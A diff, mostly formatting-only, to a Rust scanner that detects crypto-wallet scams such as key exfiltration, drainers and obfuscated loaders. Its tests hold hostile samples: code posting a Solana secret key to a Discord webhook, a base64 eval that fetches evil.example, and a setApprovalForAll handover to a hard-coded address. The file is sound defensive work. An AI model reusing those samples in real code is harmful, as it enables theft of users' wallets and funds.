@@ -68,23 +68,17 @@ static RECEIVER: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?i)\b(?:receiver|recipient|drain\w*|attacker|collector|destination|dest|to_?addr(?:ess)?|target_?wallet|my_?wallet|owner_?wallet|hacker|sink|payout_?wallet)\w*["']?\s*[:=]\s*(?:new\s+PublicKey\(\s*)?["'](0x[0-9a-fA-F]{40}|[1-9A-HJ-NP-Za-km-z]{32,44})["']"#)
         .expect("receiver regex")
 });
-static APPROVE_ALL_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"setApprovalForAll\s*\(\s*["']?0x[0-9a-fA-F]{40}"#).expect("approval regex")
-});
-static RAW_IP_URL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"https?://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})").expect("ip regex")
-});
+static APPROVE_ALL_LITERAL: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"setApprovalForAll\s*\(\s*["']?0x[0-9a-fA-F]{40}"#).expect("approval regex"));
+static RAW_IP_URL: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"https?://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})").expect("ip regex"));
 pub(super) fn ident_byte(b: u8) -> bool {
     b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b == b'.'
 }
 
 pub(super) fn comment_line(line: &[u8]) -> bool {
     let t = line.trim_ascii_start();
-    t.starts_with(b"//")
-        || t.starts_with(b"#")
-        || t.starts_with(b"*")
-        || t.starts_with(b"/*")
-        || t.starts_with(b"--")
+    t.starts_with(b"//") || t.starts_with(b"#") || t.starts_with(b"*") || t.starts_with(b"/*") || t.starts_with(b"--")
 }
 
 pub(super) fn contains(hay: &[u8], needle: &str) -> bool {
@@ -115,9 +109,9 @@ pub(crate) fn local_ipv4(ip: std::net::Ipv4Addr) -> bool {
 fn raw_public_ip(data: &[u8], hits: &[(Sig, usize)]) -> Option<usize> {
     // `://1` anchors, and `http://` anchors (which hide a following `://1` from the
     // non-overlapping automaton).
-    let candidates = hits.iter().filter(|(s, p)| {
-        *s == Sig::RawIpUrl || (*s == Sig::NetworkUse && data[*p..].starts_with(b"http"))
-    });
+    let candidates = hits
+        .iter()
+        .filter(|(s, p)| *s == Sig::RawIpUrl || (*s == Sig::NetworkUse && data[*p..].starts_with(b"http")));
     for &(_, pos) in candidates {
         let lo = pos.saturating_sub(5);
         let hi = (pos + 32).min(data.len());
@@ -182,9 +176,7 @@ static KEY_ENV_READ: LazyLock<Regex> = LazyLock::new(|| {
 /// the endpoint at `epos`: named in the request's own lines, directly or through one
 /// variable built from it (`text = f'{host} {pk}'`). Returns where the key is read.
 fn key_env_sent(data: &[u8], epos: usize) -> Option<usize> {
-    let send_start = memchr::memrchr(b'\n', &data[..epos])
-        .map(|i| i + 1)
-        .unwrap_or(0);
+    let send_start = memchr::memrchr(b'\n', &data[..epos]).map(|i| i + 1).unwrap_or(0);
     // The ~25 lines before the request.
     let lo = send_start.saturating_sub(1500);
     let wstart = if lo == 0 {
@@ -219,10 +211,7 @@ fn key_env_sent(data: &[u8], epos: usize) -> Option<usize> {
                 continue;
             };
             let lhs = t[..eq].trim_ascii();
-            let lhs = lhs
-                .rsplit(|b| b.is_ascii_whitespace())
-                .next()
-                .unwrap_or(lhs);
+            let lhs = lhs.rsplit(|b| b.is_ascii_whitespace()).next().unwrap_or(lhs);
             if !lhs.is_empty()
                 && lhs.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
                 && word_in(&t[eq + 1..], var)
@@ -270,10 +259,7 @@ pub fn evaluate_file(
     let ln = |pos: usize| line_of(data, pos);
 
     // --- Wallet theft: secret material read + sent somewhere an attacker controls.
-    let endpoints = || {
-        hits.iter()
-            .filter(|(s, p)| *s == Sig::Exfil && live_endpoint(data, *p))
-    };
+    let endpoints = || hits.iter().filter(|(s, p)| *s == Sig::Exfil && live_endpoint(data, *p));
     let hard_exfil = endpoints()
         .find(|(_, p)| !data[*p..].starts_with(b"api.telegram.org"))
         .map(|(_, p)| *p);
@@ -322,8 +308,7 @@ pub fn evaluate_file(
             format!("{path} reads the private key or seed phrase from the environment (line {}) and puts it in a message to a bot/webhook (line {}).", ln(kpos), ln(epos)),
         ));
     } else if let Some(epos) = strong_exfil {
-        let key_material =
-            c(Sig::KeyContext) + c(Sig::SolanaArrayContext) + c(Sig::MnemonicContext) > 0;
+        let key_material = c(Sig::KeyContext) + c(Sig::SolanaArrayContext) + c(Sig::MnemonicContext) > 0;
         if key_material {
             out.push(ScamFinding::new(
                 "scam.wallet_exfiltration",
@@ -337,12 +322,7 @@ pub fn evaluate_file(
     }
 
     // --- Drainers.
-    if c(Sig::ApprovalForAll)
-        + c(Sig::MaxApproval)
-        + c(Sig::TokenEnumeration)
-        + c(Sig::TransferCall)
-        > 0
-    {
+    if c(Sig::ApprovalForAll) + c(Sig::MaxApproval) + c(Sig::TokenEnumeration) + c(Sig::TransferCall) > 0 {
         drainer(path, data, hits, counts, &mut out);
     }
 
@@ -416,13 +396,7 @@ pub fn evaluate_file(
     out
 }
 
-fn drainer(
-    path: &str,
-    data: &[u8],
-    hits: &[(Sig, usize)],
-    counts: &[u32; NSIG],
-    out: &mut Vec<ScamFinding>,
-) {
+fn drainer(path: &str, data: &[u8], hits: &[(Sig, usize)], counts: &[u32; NSIG], out: &mut Vec<ScamFinding>) {
     let c = |s: Sig| counts[s as usize];
     let receiver = RECEIVER.find(data).map(|m| m.start());
     // setApprovalForAll *called* (not defined) with a literal operator address.
@@ -431,9 +405,7 @@ fn drainer(
         .filter(|(s, _)| *s == Sig::ApprovalForAll)
         .find_map(|&(_, pos)| {
             let (_, line) = window(data, pos, 200, 0);
-            if contains(line, "function setApprovalForAll")
-                || contains(line, "event ApprovalForAll")
-            {
+            if contains(line, "function setApprovalForAll") || contains(line, "event ApprovalForAll") {
                 return None;
             }
             APPROVE_ALL_LITERAL
@@ -449,13 +421,10 @@ fn drainer(
                 && !contains(line, "event ApprovalForAll")
                 && !comment_line(line)
         });
-    let unlimited = hits
-        .iter()
-        .filter(|(s, _)| *s == Sig::MaxApproval)
-        .find(|&&(_, pos)| {
-            let (_, w) = window(data, pos, 300, 1);
-            contains(w, "approve") && !comment_line(w)
-        });
+    let unlimited = hits.iter().filter(|(s, _)| *s == Sig::MaxApproval).find(|&&(_, pos)| {
+        let (_, w) = window(data, pos, 300, 1);
+        contains(w, "approve") && !comment_line(w)
+    });
     let sweep = c(Sig::TokenEnumeration) > 0 && c(Sig::TransferCall) > 0;
     // A Permit/Permit2 signature whose spender is the hard-coded receiver: one signature
     // hands over every listed token (Inferno/Pink/Angel kits). A DEX names its router or
@@ -488,7 +457,10 @@ fn drainer(
         })
     });
     let (line, why) = if let Some(p) = approve_literal {
-        (line_of(data, p), "calls setApprovalForAll for a hard-coded operator address, handing over every NFT of the collection")
+        (
+            line_of(data, p),
+            "calls setApprovalForAll for a hard-coded operator address, handing over every NFT of the collection",
+        )
     } else if let (Some(r), Some(_)) = (receiver, approve_call) {
         (
             line_of(data, r),
@@ -558,9 +530,8 @@ mod tests {
         let read = "const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(os.homedir() + '/.config/solana/id.json'))));\n";
         let documented = format!("{read}const WEBHOOK = process.env.DISCORD_WEBHOOK_URL; // e.g. https://discord.com/api/webhooks/<id>/<token>\nawait fetch(WEBHOOK, {{ method: 'POST', body }});");
         assert!(scan("bot.js", &documented).is_empty());
-        let placeholder = format!(
-            "{read}const WEBHOOK = 'https://discord.com/api/webhooks/YOUR_WEBHOOK_ID/YOUR_TOKEN';"
-        );
+        let placeholder =
+            format!("{read}const WEBHOOK = 'https://discord.com/api/webhooks/YOUR_WEBHOOK_ID/YOUR_TOKEN';");
         assert!(scan("bot.js", &placeholder).is_empty());
         let literal = format!("{read}await fetch('https://discord.com/api/webhooks/0929492818498669608/5sRl0eKENteAJz', {{ method: 'POST', body: kp.secretKey }});");
         assert!(scan("bot.js", &literal)
@@ -600,9 +571,7 @@ mod tests {
             .any(|f| f.check == "scam.drainer" && f.severity == Severity::Critical));
         // A swap front-end: the router is the spender, the user the recipient.
         let dex = "const recipient = '0xC8B9e7A8aB17eC5B5efff170ab9CDE69ECb34b53';\nawait erc20.approve(PERMIT2, MaxUint256);\nconst permit = { details, spender: UNIVERSAL_ROUTER, sigDeadline };\nconst sig = await signer.signTypedData(domain, { PermitSingle: [] }, permit);\n";
-        assert!(scan("src/swap.js", dex)
-            .iter()
-            .all(|f| f.severity < Severity::Critical));
+        assert!(scan("src/swap.js", dex).iter().all(|f| f.severity < Severity::Critical));
     }
 
     #[test]
@@ -649,8 +618,7 @@ mod tests {
         );
         let nft = "function setApprovalForAll(address operator, bool approved) public virtual override {\n  _setApprovalForAll(_msgSender(), operator, approved);\n}\nfunction transferFrom(address from, address to, uint256 id) public { }";
         assert!(scan("contracts/NFT.sol", nft).is_empty());
-        let approve =
-            "await nft.setApprovalForAll('0xAbCdEf0123456789abcdef0123456789ABCDEF01', true);";
+        let approve = "await nft.setApprovalForAll('0xAbCdEf0123456789abcdef0123456789ABCDEF01', true);";
         assert!(scan("src/x.js", approve)
             .iter()
             .any(|f| f.severity == Severity::Critical));
@@ -665,19 +633,13 @@ mod tests {
     #[test]
     fn obfuscation_cases() {
         let evil = "const p = 'ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik=';\neval(atob(p));";
-        assert!(scan("lib/a.js", evil)
-            .iter()
-            .any(|f| f.severity == Severity::Critical));
+        assert!(scan("lib/a.js", evil).iter().any(|f| f.severity == Severity::Critical));
         let benign = "const retrieval = retrieval(query);\nconst ok = isFunction(x);\nconst m = re.exec(s);\nconst img = atob(data);";
         assert!(scan("lib/b.js", benign).is_empty());
         let binding =
-            "#[wasm_bindgen(js_name = fromCharCode)]\npub fn from_char_code(a: u16) -> JsString;\n"
-                .repeat(25);
+            "#[wasm_bindgen(js_name = fromCharCode)]\npub fn from_char_code(a: u16) -> JsString;\n".repeat(25);
         assert!(scan("src/lib.rs", &binding).is_empty());
-        let blob = format!(
-            "const logo = \"data:image/png;base64,{}\";",
-            "A".repeat(3000)
-        );
+        let blob = format!("const logo = \"data:image/png;base64,{}\";", "A".repeat(3000));
         let wasm = format!("const wasm = \"AGFzbQEAAAAB{}\";", base64_noise(3000));
         assert!(scan("lib/llhttp-wasm.js", &wasm).is_empty());
         let bundle = format!(
@@ -692,18 +654,14 @@ mod tests {
         assert!(scan("src/num.rs", &digits).is_empty());
         assert!(scan("lib/c.js", &blob).is_empty());
         let packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))";
-        assert!(scan("lib/p.js", packed)
-            .iter()
-            .any(|f| f.check == "scam.obfuscation"));
+        assert!(scan("lib/p.js", packed).iter().any(|f| f.check == "scam.obfuscation"));
         use base64::Engine as _;
         let bytes: Vec<u8> = (0..1500u32).map(|i| (i * 31 % 251) as u8).collect();
         let hidden = format!(
             "const payload = \"{}\";",
             base64::engine::general_purpose::STANDARD.encode(bytes)
         );
-        assert!(scan("lib/d.js", &hidden)
-            .iter()
-            .any(|f| f.check == "scam.obfuscation"));
+        assert!(scan("lib/d.js", &hidden).iter().any(|f| f.check == "scam.obfuscation"));
     }
 
     #[test]
@@ -722,11 +680,23 @@ mod tests {
         assert_eq!(f.first().map(|f| f.severity), Some(Severity::Medium), "{f:?}");
         // The same download without the pinned digest stays high.
         let unpinned = pinned.replace("assert_eq!(hex::encode(Sha256::digest(&body)), SHA256);", "");
-        let unpinned = unpinned.replace("accfc5bdefc0fe7814a7207a0d1eddd61139011cab7df7aa75396c918da0c954", "1.18.0");
-        assert_eq!(scan("build.rs", &unpinned).first().map(|f| f.severity), Some(Severity::High));
+        let unpinned = unpinned.replace(
+            "accfc5bdefc0fe7814a7207a0d1eddd61139011cab7df7aa75396c918da0c954",
+            "1.18.0",
+        );
+        assert_eq!(
+            scan("build.rs", &unpinned).first().map(|f| f.severity),
+            Some(Severity::High)
+        );
         // hummingbot's setup.py: `urllib3` in install_requires is a package name, not a call.
         let setup = "from setuptools import setup\nfrom Cython.Build import build_ext\nsetup(\n    name='bot',\n    install_requires=[\n        \"aiohttp>=3.8\",\n        \"urllib3>=1.26.15,<2.0\",\n    ],\n    cmdclass={'build_ext': build_ext},\n)\n";
-        assert!(scan("setup.py", setup).iter().all(|f| f.check != "scam.install_scripts"), "{:?}", scan("setup.py", setup));
+        assert!(
+            scan("setup.py", setup)
+                .iter()
+                .all(|f| f.check != "scam.install_scripts"),
+            "{:?}",
+            scan("setup.py", setup)
+        );
     }
 
     #[test]
@@ -746,12 +716,8 @@ mod tests {
             "a module named build.rs is not a build script (its curl | sh is still scam.malware)"
         );
         let curl = "fn main() {\n    // on Windows powershell aliases curl\n    let s = std::process::Command::new(\"curl\").arg(\"-sSfL\").arg(\"https://example.com/ui.zip\").status();\n}";
-        assert_eq!(
-            scan("build.rs", curl).first().map(|f| f.severity),
-            Some(Severity::High)
-        );
-        let client =
-            "fn main() {\n    let body = ureq::get(\"https://example.com/lib.tar.gz\").call();\n}";
+        assert_eq!(scan("build.rs", curl).first().map(|f| f.severity), Some(Severity::High));
+        let client = "fn main() {\n    let body = ureq::get(\"https://example.com/lib.tar.gz\").call();\n}";
         assert_eq!(
             scan("build.rs", client).first().map(|f| f.severity),
             Some(Severity::High)
